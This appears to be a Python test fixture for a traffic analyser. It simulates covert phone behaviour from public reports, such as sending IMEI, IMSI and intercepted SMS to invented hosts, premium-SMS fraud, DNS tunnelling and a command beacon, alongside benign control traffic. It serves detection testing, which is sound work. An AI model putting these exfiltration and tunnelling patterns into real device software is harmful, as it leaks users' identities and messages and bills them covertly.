"""Phones of the lab: the covert ones of public reports, their variants, and benign ones.

Names of servers and numbers are invented (RFC 2606, RFC 5737); behaviours are those reported.
"""

from __future__ import annotations

import gzip
import json
import random
import struct

from tests.examine.traffic import frames as wire
from tests.examine.traffic import lab as planted
from tests.examine.traffic import short_messages as sms
from tests.examine.traffic.lab import Lab

HOUR = 3600.0
MMS_HEAD = "Content-Type: application/vnd.wap.mms-message\r\n"


def sale_report(lab: Lab) -> Lab:
    """Report the sale to a server, in clear (as the itel it2160)."""
    body = (
        f"imei={planted.IMEI}&country=FR&model=it2160&fw=1.2&lang=fr&active=20260503"
        "&lac=4660&cid=22136&"
    ).encode()
    frames = lab.wait(900).post("sales.sink.example", "203.0.113.21", body)
    lab.planted("imei", "ascii", "sales.sink.example", frames)
    lab.planted("cell", "named fields", "sales.sink.example", frames)
    return lab.wait(HOUR)


def identity_sms(lab: Lab) -> Lab:
    """Send the identities by SMS to a number abroad (as the F+ Flip 3)."""
    text = f"F+Flip3 {planted.IMEI} {planted.IMSI}"
    frames = lab.wait(600).sms("+8613912345678", text)
    lab.planted("imei", "ascii", "+8613912345678", frames)
    lab.planted("imsi", "ascii", "+8613912345678", frames)
    lab.wait(HOUR).look_up("time.example")
    return lab


def premium_sms(lab: Lab) -> Lab:
    """Ask a server, send the SMS that it orders, answer the confirmation (as the DEXP SD2810)."""
    order = json.dumps({"cmd": "sms", "to": "0899123456", "text": "WIN 77 OK"}).encode()
    body = f'{{"imei":"{planted.IMEI}","imsi":"{planted.IMSI}"}}'.encode()
    frames = lab.wait(700).post("cc.sink.example", "203.0.113.31", body, order)
    lab.planted("imei", "ascii", "cc.sink.example", frames)
    lab.planted("imsi", "ascii", "cc.sink.example", frames)
    lab.wait(20).sms("0899123456", "WIN 77 OK")
    lab.wait(5).receive("0899123456", "Repondez OUI pour confirmer")
    lab.wait(3).sms("0899123456", "OUI")
    lab.wait(HOUR).look_up("time.example")
    return lab


def interception(lab: Lab) -> Lab:
    """Forward a received SMS to a server, packed; then speak to it in cipher (as the SF63)."""
    lab.wait(300).receive("+33639985432", planted.MESSAGE)
    body = gzip.compress(json.dumps({"sms": planted.MESSAGE, "from": "+33639985432"}).encode())
    frames = lab.wait(4).post("api.sink.example", "203.0.113.41", body)
    lab.planted("message", "ascii", "api.sink.example", frames)
    lab.planted("contact", "ascii", "api.sink.example", frames)
    noise = random.Random(4).randbytes(4000)
    lab.wait(60).exchange("203.0.113.42", 9443, noise, noise)
    return lab.wait(HOUR)


def encrypted(lab: Lab) -> Lab:
    """Speak TLS to a server that nobody knows, and nothing else."""
    name = b"x.sink.example"
    server = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    extensions = struct.pack("!HH", 0, len(server)) + server
    hello = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x04\x13\x01\xc0\x2f" + b"\x01\x00"
    hello += struct.pack("!H", len(extensions)) + extensions
    message = b"\x01" + len(hello).to_bytes(3, "big") + hello
    record = b"\x16\x03\x01" + struct.pack("!H", len(message)) + message
    data = random.Random(5).randbytes(900)
    told = record + b"\x17\x03\x03" + struct.pack("!H", len(data)) + data
    lab.wait(300).exchange("203.0.113.51", 443, told, b"\x17\x03\x03" + told[3:])
    return lab.wait(2 * HOUR)


def delayed(lab: Lab) -> Lab:
    """Keep quiet for 30 hours, then report, the identity under XOR."""
    lab.wait(30 * HOUR)
    body = bytes(byte ^ 0x37 for byte in f"id:{planted.IMEI};".encode())
    frames = lab.exchange("203.0.113.61", 5222, body)
    lab.planted("imei", "ascii", lab.where("203.0.113.61"), frames)
    return lab


def dns_tunnel(lab: Lab) -> Lab:
    """Send the identities and the message in names that are asked of DNS."""
    secret = f"{planted.IMEI};{planted.IMSI};{planted.MESSAGE};{planted.CONTACT}".encode()
    secret += random.Random(8).randbytes(300)
    for at in range(0, len(secret), 30):
        part = secret[at : at + 30].hex()
        lab.wait(2).look_up(f"{part}.{at:03d}.t.tunnel-sink.example")
    return lab.wait(HOUR)


def sms_only(lab: Lab) -> Lab:
    """Have no data at all; send the contact in a long SMS, 16-bit, to a national number."""
    text = f"contact {planted.CONTACT} ok"
    frames = lab.wait(100).sms("+33700000001", text, coding=8)
    lab.planted("contact", "ascii", "+33700000001", frames)
    long = f"{'x' * 140}{planted.IMSI}{'y' * 30}"
    parts = sms.submit_parts("+33700000002", [long[:150], long[150:]])
    frames = [number for part in parts for number in lab.wait(1).unit(part)]
    lab.planted("imsi", "ascii", "+33700000002", frames)
    lab.wait(HOUR).look_up("time.example")
    return lab


def beacon(lab: Lab) -> Lab:
    """Ask a server for commands every five minutes, give or take some seconds."""
    drift = random.Random(6)
    for _ in range(24):
        lab.wait(300 + drift.uniform(-8, 8))
        lab.exchange("203.0.113.71", 8088, b"PING 1\n", b"NOP\n")
    return lab


COVERT = {
    "sale report": (sale_report, 1, "sale_report"),
    "identity by sms": (identity_sms, 1, "identity_sms"),
    "premium sms": (premium_sms, 1, "premium_sms"),
    "interception": (interception, 1, "sms_interception"),
    "delayed": (delayed, 1, "sale_report"),
    "sms only": (sms_only, 1, "identity_sms"),
    "dns tunnel": (dns_tunnel, 1, "dns_tunnel"),
    "encrypted": (encrypted, 3, None),
    "beacon": (beacon, 2, "beacon"),
}
"""Name -> what the phone does, the grade that it must get, a behaviour that must be named."""


def quiet(lab: Lab) -> Lab:
    """Do nothing at all for some hours but look for the network (as the Inoi 101)."""
    for _ in range(4):
        attach = bytes.fromhex("0508") + bytes(16)
        for part in wire.lapdm(attach, sapi=0):
            lab.wait(HOUR).frame(wire.gsmtap(part, 1, 8))
    return lab


def wap_and_mms(lab: Lab) -> Lab:
    """Use the operator's gateway and send a multimedia message that the operator typed."""
    lab.action("wrote a multimedia message", planted.CONTACT)
    body = b"\x8c\x80\x98T1\x00\x8d\x92\x97" + planted.CONTACT.encode() + b"/TYPE=PLMN\x00"
    lab.wait(5).post("mms.orange.fr", "192.168.10.200", body + bytes(900), head=MMS_HEAD)
    lab.wait(60).get("wap.orange.fr", "192.168.10.100", "/home.wml", b"<wml/>")
    return lab.wait(2 * HOUR)


def clock_and_position(lab: Lab) -> Lab:
    """Set the clock by NTP and ask for assistance of positioning, which names the IMSI."""
    for _ in range(12):
        ask = b"\x23" + bytes(47)
        server = lab.address("fr.pool.ntp.org", "203.0.113.81")
        packet = wire.udp(lab.phone, server, (123, 123), ask)
        lab.wait(600).packet(packet)
        lab.packet(wire.udp(server, lab.phone, (123, 123), ask), uplink=False)
    identity = bytes(int(planted.IMSI[at + 1] + planted.IMSI[at], 16) for at in range(0, 14, 2))
    where = lab.address("h-slp.mnc001.mcc208.pub.3gppnetwork.org", "203.0.113.82")
    lab.exchange(where, 7275, b"\x00\x40\x02" + identity + b"\xf0", b"\x00\x10\x02")
    return lab.wait(HOUR)


def update_check(lab: Lab) -> Lab:
    """Ask a known maker's server for an update: model and version, no identity."""
    path = "/firmware/SM-B310E/version.xml"
    lab.wait(100).get("fota-cloud-dn.ospserver.net", "203.0.113.91", path, b"<versioninfo/>")
    lab.wait(100).get("update.maker.example", "203.0.113.92", "/check?model=B310&v=7", b"none")
    return lab.wait(2 * HOUR)


def operator_texts(lab: Lab) -> Lab:
    """Send and receive what the operator typed, a planted text among it; hear the network."""
    lab.action("sent a short message", planted.CONTACT)
    lab.wait(8).sms(planted.CONTACT, planted.MESSAGE)
    lab.wait(30).receive(planted.CONTACT, "Bien recu")
    lab.action("asked for the balance", "950")
    lab.wait(4).sms("950", "solde")
    lab.wait(2 * HOUR).look_up("connectivitycheck.gstatic.com", "203.0.113.95")
    answer = b""
    lab.get("connectivitycheck.gstatic.com", "203.0.113.95", "/generate_204", answer)
    return lab


def home_registration(lab: Lab) -> Lab:
    """Register for voice over IP at the home network, with the IMEI as the standard asks."""
    home = "ims.mnc001.mcc208.3gppnetwork.org"
    lines = [
        f"REGISTER sip:{home} SIP/2.0",
        f"From: <sip:{planted.IMSI}@{home}>;tag=1",
        f"To: <sip:{planted.IMSI}@{home}>",
        'Contact: <sip:x@10.45.0.2>;+sip.instance="<urn:gsma:imei:00101706-323347-0>"',
        "Content-Length: 0",
    ]
    where = lab.address(f"pcscf.{home}", "203.0.113.99")
    packet = wire.udp(lab.phone, where, (5060, 5060), "\r\n".join([*lines, "", ""]).encode())
    lab.wait(10).packet(packet)
    return lab.wait(2 * HOUR)


BENIGN = {
    "quiet": quiet,
    "wap and mms": wap_and_mms,
    "clock and position": clock_and_position,
    "update check": update_check,
    "operator's texts": operator_texts,
    "registration at home": home_registration,
}
